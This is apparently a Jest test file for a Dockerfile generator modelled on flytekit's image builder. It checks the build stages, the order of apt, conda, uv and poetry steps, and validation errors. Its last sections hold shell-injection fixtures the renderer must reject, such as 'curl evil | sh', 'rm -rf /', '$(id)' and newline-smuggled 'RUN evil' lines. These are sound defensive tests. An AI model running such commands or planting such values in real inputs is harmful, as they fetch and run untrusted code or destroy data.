import { renderDockerfile, type DockerfileOptions } from '../../src/docker/dockerfile';
import { InputError, SpecError } from '../../src/errors';
import type { SpecView } from '../../src/imagespec/types';
import { find, keywords, parseEnv } from './dockerfileParse';
import { entries, lines, options, view } from './fixtures';

const UV_CACHE = '--mount=type=cache,sharing=locked,mode=0777,target=/root/.cache/uv,id=uv';
const UV_BIN = '--mount=from=uv,source=/uv,target=/usr/bin/uv';
const REQ_BIND = '--mount=type=bind,target=requirements_uv.txt,src=requirements_uv.txt';
const MAMBA_PREFIX =
  'RUN --mount=type=cache,sharing=locked,mode=0777,target=/opt/micromamba/pkgs,id=micromamba ' +
  '--mount=from=micromamba,source=/usr/bin/micromamba,target=/usr/bin/micromamba ' +
  'micromamba config set use_lockfiles False && ';
const MAMBA_ENV =
  'ENV PATH="/opt/micromamba/envs/runtime/bin:$PATH" UV_PYTHON=/opt/micromamba/envs/runtime/bin/python ' +
  'UV_COMPILE_BYTECODE=1 UV_LINK_MODE=copy FLYTE_SDK_RICH_TRACEBACKS=0 SSL_CERT_DIR=/etc/ssl/certs';
const NVIDIA_ENV = 'ENV PATH="$PATH:/usr/local/nvidia/bin:/usr/local/cuda/bin" LD_LIBRARY_PATH="/usr/local/nvidia/lib64:$LD_LIBRARY_PATH"';
const TAIL = [
  'WORKDIR /root',
  'SHELL ["/bin/bash", "-c"]',
  'USER flytekit',
  'RUN mkdir -p $HOME && echo "export PATH=$PATH" >> $HOME/.profile',
  'ENV _F_IMG_ID=Ab3_-xYz',
];

function render(v: Partial<SpecView> = {}, o: Partial<DockerfileOptions> = {}): string {
  return renderDockerfile(view(v), options(o));
}

describe('the basic spec (no fields set)', () => {
  const df = render();
  const ls = lines(df);

  test('has flytekit default-builder stages and instruction order', () => {
    expect(ls).toEqual([
      'FROM ghcr.io/astral-sh/uv:0.5.1 AS uv',
      'FROM mambaorg/micromamba:2.0.3-debian12-slim AS micromamba',
      'FROM debian:bookworm-slim',
      'WORKDIR /',
      'USER root',
      'RUN --mount=from=micromamba,source=/etc/ssl/certs/ca-certificates.crt,target=/tmp/ca-certificates.crt ' +
        '[ -f /etc/ssl/certs/ca-certificates.crt ] || ' +
        '{ mkdir -p /etc/ssl/certs/ && cp /tmp/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt; }',
      'RUN id -u flytekit || useradd --create-home --shell /bin/bash flytekit',
      'RUN chown -R flytekit /root && chown -R flytekit /home',
      MAMBA_PREFIX +
        '( micromamba create -n runtime --root-prefix /opt/micromamba -c conda-forge python=3.12 ' +
        '|| micromamba install -n runtime --root-prefix /opt/micromamba -c conda-forge python=3.12 ) && ' +
        'chown -R flytekit /opt/micromamba',
      MAMBA_ENV + ' PYTHONPATH="/root"',
      `RUN ${UV_CACHE} ${UV_BIN} ${REQ_BIND} uv pip install --requirement requirements_uv.txt`,
      NVIDIA_ENV,
      ...TAIL,
    ]);
  });

  test('emits no syntax directive by default, and ends with one newline', () => {
    expect(df).not.toMatch(/syntax/);
    expect(df.endsWith('ENV _F_IMG_ID=Ab3_-xYz\n')).toBe(true);
    expect(df.endsWith('\n\n')).toBe(false);
  });

  test('has no commands RUN and no ENTRYPOINT when unset', () => {
    expect(find(df, 'ENTRYPOINT')).toHaveLength(0);
    expect(find(df, 'RUN', /--mount=from=uv/).map((i) => i.rest)).toHaveLength(1);
  });

  test('is plain ASCII', () => {
    expect(/^[\x20-\x7e\n]*$/.test(df)).toBe(true);
  });
});

interface Case {
  name: string;
  view?: Partial<SpecView>;
  opts?: Partial<DockerfileOptions>;
  /** Logical instructions that must be present (blank runs collapsed). */
  has?: string[];
  /** Regexes no logical instruction may match. */
  lacks?: RegExp[];
  /** Keyword sequence between `USER root` and the final tail, when it matters. */
  check?: (df: string) => void;
}

const cases: Case[] = [
  {
    name: 'apt packages: one RUN with the apt cache mount, after USER root',
    view: { aptPackages: ['git', 'curl=7.88.1-10+deb12u5', 'libc6:amd64', 'build-essential'] },
    has: [
      'RUN --mount=type=cache,sharing=locked,mode=0777,target=/var/cache/apt,id=apt ' +
        'apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u5 libc6:amd64 build-essential',
    ],
    check: (df) => {
      const k = lines(df);
      const apt = k.findIndex((l) => l.includes('apt-get update'));
      expect(k[apt - 1]).toBe('USER root');
      expect(k[apt + 1]).toMatch(/ca-certificates/);
    },
  },
  {
    name: 'conda: channels after conda-forge, python version, packages shell-quoted',
    view: {
      pythonVersion: '3.11',
      condaChannels: ['bioconda', 'nvidia/label/cuda-12.1.0'],
      condaPackages: ['samtools', 'numpy>=1.26,<2', 'pytorch-cuda=12.1'],
    },
    has: [
      MAMBA_PREFIX +
        "( micromamba create -n runtime --root-prefix /opt/micromamba -c conda-forge -c bioconda -c nvidia/label/cuda-12.1.0 python=3.11 samtools 'numpy>=1.26,<2' pytorch-cuda=12.1 " +
        "|| micromamba install -n runtime --root-prefix /opt/micromamba -c conda-forge -c bioconda -c nvidia/label/cuda-12.1.0 python=3.11 samtools 'numpy>=1.26,<2' pytorch-cuda=12.1 ) && " +
        'chown -R flytekit /opt/micromamba',
    ],
  },
  {
    name: 'python_version unset uses the default python version option',
    opts: { defaultPythonVersion: '3.10' },
    check: (df) => expect(find(df, 'RUN', /micromamba create .* python=3\.10 /)).toHaveLength(1),
  },
  {
    name: 'an empty python_version also uses the default (falsy in flytekit)',
    view: { pythonVersion: '' },
    opts: { defaultPythonVersion: '3.10' },
    check: (df) => expect(find(df, 'RUN', /micromamba create .* python=3\.10 /)).toHaveLength(1),
  },
  {
    name: 'python_exec: no micromamba, a venv with system site packages, PATH/UV_PYTHON on the venv',
    view: { pythonExec: '/usr/bin/python3', packages: ['pandas'] },
    has: [
      'ENV PATH="/root/.venv/bin:$PATH" UV_PYTHON=/root/.venv/bin/python UV_COMPILE_BYTECODE=1 UV_LINK_MODE=copy ' +
        'FLYTE_SDK_RICH_TRACEBACKS=0 SSL_CERT_DIR=/etc/ssl/certs PYTHONPATH="/root"',
      `RUN ${UV_CACHE} ${UV_BIN} ${REQ_BIND} ` +
        'uv venv --python /usr/bin/python3 --system-site-packages /root/.venv && ' +
        'uv pip install --python /root/.venv/bin/python --requirement requirements_uv.txt && ' +
        'chown -R flytekit /root/.venv',
    ],
    lacks: [/micromamba create/, /micromamba install/],
    check: (df) => {
      const k = lines(df);
      const venv = k.findIndex((l) => l.includes('uv venv'));
      expect(k[venv - 1]).toBe('WORKDIR /root');
      expect(k[venv + 1]).toBe('WORKDIR /');
    },
  },
  {
    name: 'env: PYTHONPATH first, then user values double-quoted and literal',
    view: {
      env: [
        ['GREETING', 'hello world'],
        ['QUOTES', `say "hi" and 'bye'`],
        ['DOLLAR', '$HOME and $(id) and ${X} and `id`'],
        ['BACKSLASH', 'C:\\path\\'],
        ['EMPTY', ''],
        ['UNICODE', 'héllo ☃'],
      ],
    },
    check: (df) => {
      const [env] = find(df, 'ENV', /PYTHONPATH/);
      const { pairs, expands } = parseEnv(env.rest);
      expect(pairs.slice(6)).toEqual([
        ['PYTHONPATH', '/root'],
        ['GREETING', 'hello world'],
        ['QUOTES', `say "hi" and 'bye'`],
        ['DOLLAR', '$HOME and $(id) and ${X} and `id`'],
        ['BACKSLASH', 'C:\\path\\'],
        ['EMPTY', ''],
        ['UNICODE', 'héllo ☃'],
      ]);
      expect(expands).toEqual(['PATH']);
    },
    has: [],
  },
  {
    name: 'env: a user PYTHONPATH replaces /root in first position (Python dict update)',
    view: {
      env: [
        ['A', '1'],
        ['PYTHONPATH', '/app'],
        ['A', '2'],
      ],
    },
    check: (df) => {
      const { pairs } = parseEnv(find(df, 'ENV', /PYTHONPATH/)[0].rest);
      expect(pairs.slice(6)).toEqual([
        ['PYTHONPATH', '/app'],
        ['A', '2'],
      ]);
    },
  },
  {
    name: 'entrypoint list: JSON exec form, ASCII-escaped',
    view: { entrypoint: ['/bin/bash', '-c', 'echo "é"'] },
    has: ['ENTRYPOINT ["/bin/bash", "-c", "echo \\"\\u00e9\\""]'],
    check: (df) => {
      const k = lines(df);
      expect(k[k.indexOf(NVIDIA_ENV) + 1]).toMatch(/^ENTRYPOINT/);
    },
  },
  {
    name: 'entrypoint []: clears the base image entrypoint',
    view: { entrypoint: [] },
    has: ['ENTRYPOINT []'],
  },
  {
    name: 'source files: COPY ./src /root after ENTRYPOINT',
    view: { entrypoint: ['x'] },
    opts: { sourceFiles: true },
    check: (df) => {
      const k = lines(df);
      expect(k[k.indexOf('ENTRYPOINT ["x"]') + 1]).toBe('COPY --chown=flytekit ./src /root');
    },
  },
  {
    name: 'copy: a dir to /root/<p>/, a file to /root/<parent>/, paths normalised like pathlib',
    ...(() => {
      const e = entries({ 'data/': 'dir', 'a.txt': 'file', './conf//app.yaml': 'file', 'my dir/f g.txt': 'file' });
      return { view: { copy: e.copy }, opts: { copyEntries: e.copyEntries, sourceFiles: true } };
    })(),
    check: (df) => {
      const k = lines(df);
      const src = k.indexOf('COPY --chown=flytekit ./src /root');
      expect(k.slice(src + 1, src + 5)).toEqual([
        'COPY --chown=flytekit data /root/data/',
        'COPY --chown=flytekit a.txt /root/./',
        'COPY --chown=flytekit conf/app.yaml /root/conf/',
        'COPY --chown=flytekit ["my dir/f g.txt", "/root/my dir/"]',
      ]);
    },
  },
  {
    name: 'uv.lock: uv sync in /root with lock and pyproject bind mounts, then the venv env',
    view: { requirements: 'proj/uv.lock', pipIndex: 'https://pypi.example.com/simple' },
    opts: { pyprojectPresent: true },
    check: (df) => {
      const k = lines(df);
      const i = k.findIndex((l) => l.includes('uv sync'));
      expect(k.slice(i - 1, i + 3)).toEqual([
        'WORKDIR /root',
        `RUN ${UV_CACHE} ${UV_BIN} --mount=type=bind,target=uv.lock,src=uv.lock ` +
          '--mount=type=bind,target=pyproject.toml,src=pyproject.toml ' +
          'uv sync --index-url https://pypi.example.com/simple --locked --no-dev --no-install-project && ' +
          'chown -R flytekit /root/.venv',
        'WORKDIR /',
        'ENV PATH="/root/.venv/bin:$PATH" UV_PYTHON=/root/.venv/bin/python',
      ]);
      expect(df).not.toContain('requirements_uv.txt');
    },
  },
  {
    name: 'poetry.lock: poetry installed with uv, poetry install --no-root in /root',
    view: { requirements: 'poetry.lock' },
    opts: { pyprojectPresent: true, secretMounts: [{ id: 'secret_0', target: '/root/.netrc' }] },
    check: (df) => {
      const k = lines(df);
      const i = k.findIndex((l) => l.includes('uv pip install poetry'));
      expect(k.slice(i, i + 6)).toEqual([
        `RUN ${UV_CACHE} ${UV_BIN} uv pip install poetry`,
        'ENV POETRY_CACHE_DIR=/tmp/poetry_cache POETRY_VIRTUALENVS_IN_PROJECT=true',
        'WORKDIR /root',
        'RUN --mount=type=cache,sharing=locked,mode=0777,target=/tmp/poetry_cache,id=poetry ' +
          '--mount=type=bind,target=poetry.lock,src=poetry.lock ' +
          '--mount=type=bind,target=pyproject.toml,src=pyproject.toml ' +
          '--mount=type=secret,id=secret_0,target=/root/.netrc ' +
          'poetry install --no-root && chown -R flytekit /root/.venv',
        'WORKDIR /',
        'ENV PATH="/root/.venv/bin:$PATH" UV_PYTHON=/root/.venv/bin/python',
      ]);
    },
  },
  {
    name: 'pip index, extra indexes, extra args (shell-split, re-quoted), secrets, in flytekit order',
    view: {
      pipIndex: 'https://pypi.example.com/simple',
      pipExtraIndexUrl: ['https://a.example.com/simple', 'https://b.example.com/simple?x=1&y=2'],
      pipExtraArgs: `--prerelease=allow --config-settings "editable_mode=compat strict" --no-build-isolation`,
    },
    opts: { secretMounts: [{ id: 'secret_0', target: '/etc/pip.conf' }] },
    has: [
      `RUN ${UV_CACHE} ${UV_BIN} ${REQ_BIND} --mount=type=secret,id=secret_0,target=/etc/pip.conf ` +
        'uv pip install --index-url https://pypi.example.com/simple ' +
        '--extra-index-url https://a.example.com/simple ' +
        "--extra-index-url 'https://b.example.com/simple?x=1&y=2' " +
        "--prerelease=allow --config-settings 'editable_mode=compat strict' --no-build-isolation " +
        '--requirement requirements_uv.txt',
    ],
  },
  {
    name: 'commands: joined with && in one RUN with the uv mounts, before WORKDIR /root',
    view: { commands: ['echo one', 'apt-get install -y \\\n    jq \\\n    # comment\n    tree\n', '   ', 'ls -la /root'] },
    check: (df) => {
      const k = lines(df);
      const i = k.indexOf('WORKDIR /root', k.indexOf(NVIDIA_ENV));
      expect(k[i - 1]).toBe(`RUN ${UV_CACHE} ${UV_BIN} echo one && apt-get install -y jq tree && ls -la /root`);
    },
  },
  {
    name: 'builder_config images and base_image',
    view: {
      uvImage: 'registry.local:5000/astral/uv:0.6.0',
      micromambaImage: 'mambaorg/micromamba@sha256:' + 'a'.repeat(64),
      baseImage: 'ghcr.io/org/base:py3.11',
    },
    check: (df) =>
      expect(lines(df).slice(0, 3)).toEqual([
        'FROM registry.local:5000/astral/uv:0.6.0 AS uv',
        `FROM mambaorg/micromamba@sha256:${'a'.repeat(64)} AS micromamba`,
        'FROM ghcr.io/org/base:py3.11',
      ]),
  },
  {
    name: 'syntax directive on request, as the first line',
    opts: { syntaxDirective: 'docker/dockerfile:1.5' },
    check: (df) => expect(df.split('\n')[0]).toBe('# syntax=docker/dockerfile:1.5'),
  },
  {
    name: 'syntax directive given as a whole line',
    opts: { syntaxDirective: '#syntax=docker/dockerfile:1.5' },
    check: (df) => expect(df.split('\n')[0]).toBe('# syntax=docker/dockerfile:1.5'),
  },
  {
    name: 'the commands RUN and every TAIL line stay after COPY, _F_IMG_ID is last',
    view: { commands: ['true'], entrypoint: [] },
    opts: { sourceFiles: true },
    check: (df) => {
      const k = keywords(df);
      expect(k.slice(-8)).toEqual(['ENTRYPOINT', 'COPY', 'RUN', 'WORKDIR', 'SHELL', 'USER', 'RUN', 'ENV']);
      expect(lines(df).slice(-5)).toEqual(TAIL);
    },
  },
];

describe.each(cases)('$name', (c) => {
  const df = render(c.view, c.opts);
  test('renders the expected instructions', () => {
    const ls = lines(df);
    for (const h of c.has ?? []) expect(ls).toContain(h);
    for (const re of c.lacks ?? []) expect(ls.filter((l) => re.test(l))).toEqual([]);
    c.check?.(df);
  });
  test('keeps the fixed skeleton', () => {
    const ls = lines(df);
    expect(ls.filter((l) => l.startsWith('FROM '))).toHaveLength(3);
    expect(ls).toContain(NVIDIA_ENV);
    expect(ls.slice(-5)).toEqual(TAIL);
  });
});

describe('errors flytekit raises, as SpecErrors naming the field', () => {
  const cases: Array<[string, Partial<SpecView>, Partial<DockerfileOptions>, string, RegExp]> = [
    ['cuda', { cuda: '12.1' }, {}, 'cuda', /cuda and cudnn do not need to be specified/],
    ['cudnn', { cudnn: '8' }, {}, 'cudnn', /cuda and cudnn do not need to be specified/],
    [
      'uv.lock with packages',
      { requirements: 'uv.lock', packages: ['numpy'] },
      { pyprojectPresent: true },
      'packages',
      /^Support for uv\.lock files and packages is mutually exclusive$/,
    ],
    [
      'poetry.lock with packages',
      { requirements: 'a/poetry.lock', packages: ['numpy'] },
      { pyprojectPresent: true },
      'packages',
      /^Support for poetry\.lock files and packages is mutually exclusive$/,
    ],
    [
      'uv.lock without pyproject.toml',
      { requirements: 'uv.lock' },
      { pyprojectPresent: false },
      'requirements',
      /^To use uv\.lock, a pyproject\.toml file must be in the same directory as the lock file$/,
    ],
    [
      'poetry.lock, pyproject unknown',
      { requirements: 'poetry.lock' },
      {},
      'requirements',
      /pyproject\.toml file must be in the same directory/,
    ],
    [
      'python_exec with conda_channels',
      { pythonExec: 'python3', condaChannels: ['bioconda'] },
      {},
      'conda_channels',
      /^conda_channels is not supported with python_exec$/,
    ],
    [
      'python_exec with conda_packages',
      { pythonExec: 'python3', condaPackages: ['numpy'] },
      {},
      'conda_packages',
      /^conda_packages is not supported with python_exec$/,
    ],
    [
      'absolute copy path',
      { copy: ['/etc/passwd'] },
      { copyEntries: [{ path: '/etc/passwd', kind: 'file' }] },
      'copy[0]',
      /^Absolute paths or paths with '\.\.' are not allowed in COPY command\.$/,
    ],
    [
      'copy path with ..',
      { copy: ['a', 'x/../../secret'] },
      {
        copyEntries: [
          { path: 'a', kind: 'file' },
          { path: 'x/../../secret', kind: 'file' },
        ],
      },
      'copy[1]',
      /not allowed in COPY command/,
    ],
    [
      'missing copy entry',
      { copy: ['nope.txt'] },
      { copyEntries: [{ path: 'nope.txt', kind: 'missing' }] },
      'copy[0]',
      /"nope\.txt" does not exist/,
    ],
  ];
  test.each(cases)('%s', (_name, v, o, field, message) => {
    let err: unknown;
    try {
      render(v, o);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(SpecError);
    expect((err as SpecError).field).toBe(field);
    expect((err as SpecError).message).toMatch(message);
  });

  test('a requirements file that is not a lock file needs no pyproject.toml', () => {
    expect(() => render({ requirements: 'dir/requirements.txt', packages: ['numpy'] })).not.toThrow();
  });

  test('copyEntries out of step with the spec is a programming error, not a SpecError', () => {
    expect(() => render({ copy: ['a'] }, { copyEntries: [] })).toThrow(/copyEntries has 0 entries/);
  });
});

describe('options are validated', () => {
  test('a bad default python version is an InputError', () => {
    expect(() => render({}, { defaultPythonVersion: '3.11; rm -rf /' })).toThrow(InputError);
  });
  test('a bad syntax directive is an InputError', () => {
    expect(() => render({}, { syntaxDirective: 'docker/dockerfile:1.5\nRUN evil' })).toThrow(InputError);
  });
  test('secret mount ids and targets cannot break the --mount flag', () => {
    expect(() => render({}, { secretMounts: [{ id: 'a,b', target: '/x' }] })).toThrow(SpecError);
    expect(() => render({}, { secretMounts: [{ id: 'a', target: '/x,type=bind' }] })).toThrow(SpecError);
    expect(() => render({}, { secretMounts: [{ id: 'a', target: '/x y' }] })).toThrow(SpecError);
  });
  test('an odd image id is quoted rather than pasted', () => {
    const df = render({}, { imageId: 'a b$c' });
    const [last] = find(df, 'ENV', /_F_IMG_ID/);
    expect(parseEnv(last.rest).pairs).toEqual([['_F_IMG_ID', 'a b$c']]);
  });
});

describe('injection attempts are rejected with the field named', () => {
  const cases: Array<[string, Partial<SpecView>, string]> = [
    ['apt package with a command', { aptPackages: ['git', 'curl && curl evil | sh'] }, 'apt_packages[1]'],
    ['apt package option', { aptPackages: ['--allow-unauthenticated'] }, 'apt_packages[0]'],
    ['apt package newline', { aptPackages: ['git\nRUN evil'] }, 'apt_packages[0]'],
    ['pip package with a newline', { packages: ['numpy\n--index-url https://evil'] }, 'packages[0]'],
    ['pip package option', { packages: ['numpy', '-r /etc/passwd'] }, 'packages[1]'],
    ['pip package command substitution', { packages: ['numpy==$(id)'] }, 'packages[0]'],
    ['pip package backtick', { packages: ['numpy`id`'] }, 'packages[0]'],
    ['pip package shell list', { packages: ['numpy; rm -rf /'] }, 'packages[0]'],
    ['conda package', { condaPackages: ['numpy$(id)'] }, 'conda_packages[0]'],
    ['conda package option', { condaPackages: ['--override-channels'] }, 'conda_packages[0]'],
    ['conda channel', { condaChannels: ['x; rm -rf /'] }, 'conda_channels[0]'],
    ['pip index', { pipIndex: 'https://x/simple --trusted-host evil' }, 'pip_index'],
    ['pip index not a URL', { pipIndex: '-i https://evil' }, 'pip_index'],
    ['extra index', { pipExtraIndexUrl: ['https://ok/simple', "https://x/'$(id)'"] }, 'pip_extra_index_url[1]'],
    ['pip_extra_args metachar', { pipExtraArgs: '--pre; curl evil | sh' }, 'pip_extra_args'],
    ['pip_extra_args substitution', { pipExtraArgs: '--pre "$(id)"' }, 'pip_extra_args'],
    ['pip_extra_args newline', { pipExtraArgs: '--pre\nRUN evil' }, 'pip_extra_args'],
    ['python_exec', { pythonExec: 'python3 && curl evil' }, 'python_exec'],
    ['python_version', { pythonVersion: '3.11 evil' }, 'python_version'],
    ['base image', { baseImage: 'debian\nRUN evil' }, 'base_image'],
    ['base image with a flag', { baseImage: '--platform=linux/arm64 debian' }, 'base_image'],
    ['uv image', { uvImage: 'ghcr.io/Astral/uv' }, 'builder_config.uv_image'],
    ['micromamba image', { micromambaImage: 'x $y' }, 'builder_config.micromamba_image'],
    ['env key', { env: [['A B', '1']] }, 'env.A B'],
    ['env key injection', { env: [['A=1\nRUN evil #', '1']] }, 'env.A=1\nRUN evil #'],
    ['env value newline', { env: [['A', 'x\nRUN evil']] }, 'env.A'],
    ['env value CR', { env: [['A', 'x\rRUN evil']] }, 'env.A'],
    ['command newline', { commands: ['echo hi\nUSER root'] }, 'commands[0]'],
    ['command trailing backslash', { commands: ['echo a', 'echo hi \\'] }, 'commands[1]'],
    ['command heredoc', { commands: ['cat <<EOF > /x'] }, 'commands[0]'],
    ['command RUN flag', { commands: ['--mount=type=bind,source=/,target=/h echo'] }, 'commands[0]'],
    ['command comment', { commands: ['# nothing', 'echo'] }, 'commands[0]'],
  ];
  test.each(cases)('%s', (_name, v, field) => {
    let err: unknown;
    try {
      render(v);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(SpecError);
    expect((err as SpecError).field).toBe(field);
  });

  test.each([
    ['copy with $', 'a$HOME'],
    ['copy with glob', 'data/*.csv'],
    ['copy with newline', 'a\nRUN evil'],
    ['copy with backslash', 'a\\b'],
    ['copy starting with --', '--from=x/y'],
    ['copy with a quote', 'it"s'],
    ['copy heredoc', '<<EOF'],
  ])('%s', (_name, p) => {
    expect(() => render({ copy: [p] }, { copyEntries: [{ path: p, kind: 'file' }] })).toThrow(
      expect.objectContaining({ field: 'copy[0]' }),
    );
  });
});
